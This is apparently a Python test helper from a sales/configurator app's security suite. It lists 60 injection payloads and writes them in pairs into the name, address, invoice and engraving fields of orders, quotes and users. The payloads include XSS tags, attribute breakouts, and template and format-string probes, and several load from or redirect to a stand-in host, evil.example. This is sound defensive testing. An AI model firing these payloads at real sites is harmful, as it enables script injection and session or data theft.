"""What an attacker types: 60 payloads, and documents that carry two of them in every field."""

from __future__ import annotations

from dataclasses import dataclass

from sqlmodel import col, select

from catalog.offer import current_offer
from configurator import db
from configurator.auth import Role, add_user
from configurator.sales.buyers import Invoicing
from configurator.sales.configurations import Selection
from configurator.sales.models import QuoteRevision, SalesOrder
from configurator.sales.quotes import Customer, save_quote, send_quote
from configurator.storefront.service import standing_completion
from tests.configurator.security.house import buyer, order_for

PAYLOADS = (
    # elements that run at once
    "<script>alert(1)</script>", "<script src=//evil.example></script>", "<ScRiPt>alert(1)</sCrIpT>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<math><mtext></p><img src onerror=alert(1)>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
    "<form action=//evil.example><button>x", "<style>*{display:none}</style>",
    "<template shadowrootmode=open><script>alert(1)</script>", "<!--><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x",
    # out of an attribute
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", '" autofocus onfocus=alert(1) x="', "` onclick=alert(1)",
    '"/onclick="alert(1)', "javascript:alert(1)", "data:text/html,<script>", '" style="position:fixed',
    '" hx-get="/admin/" hx-trigger="load', "' hx-on:load='alert(1)'", '"></svg><script>alert(1)</script>',
    # templates and formats
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{% for x in y %}", "{%- raw %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%(name)s", "%s%n", "{0.__class__}", "#set text(fill: red)", "$ x^2 $", "\\u003cscript\\u003e",
    "&lt;script&gt;", "&#60;svg&#62;",
    # into other languages
    "';alert(1);//", "]]><script>alert(1)</script>", "?><?xml-stylesheet href=//x?>",
)
PAIRS = tuple(zip(PAYLOADS[::2], PAYLOADS[1::2], strict=True))


@dataclass(frozen=True)
class Papers:
    """An order, a sent quote and a user whose every text is hostile."""

    name: str
    street: str
    city: str
    company: str
    comment: str
    order_id: int
    order_token: str
    quote_id: int
    quote_token: str
    user_id: int


def write_papers(company_id: int, first: str, second: str, number: int) -> Papers:
    """An order that is engraved with the one, a quote that is engraved with the other, both in all other fields."""
    name, street, city = f"{first} N {second}", f"{first} S {second}", f"{second} C {first}"
    order_texts, quote_texts = {"engraving": first[:24]}, {"engraving": second[:24]}
    invoice = Invoicing(company=f"{second} I {first}", purchase_order=f"{first[:28]} {second[:28]}", name=name)
    typed = buyer(name, "mail@example.com", street=street, city=city, region=second[:80], invoice=invoice)
    placed = order_for(company_id, typed, f"order {number}", order_texts)
    with db.reading() as session:
        offer = current_offer(session, company_id, "bicycle")
        order_id = session.exec(select(SalesOrder.id).where(col(SalesOrder.token) == placed.token)).one()
    with db.writing() as session:
        seller = add_user(session, company_id, f"seller-{number}", "a long password", name, {Role.SALES}).id
    assert seller is not None and order_id is not None
    variant = standing_completion(offer, (), quote_texts)
    selection = Selection("bicycle", (), quote_texts)
    customer = Customer(name, "mail@example.com", "CN", "en", invoice=invoice)
    quote = save_quote(company_id, offer, selection, variant, customer, by=seller)
    send_quote(company_id, quote, by=seller)
    with db.reading() as session:
        token = session.exec(select(QuoteRevision.token).where(QuoteRevision.quote_id == quote)).one()
    return Papers(
        name, street, city, invoice.company, f"{first} K {second}", order_id, placed.token, quote, token, seller
    )
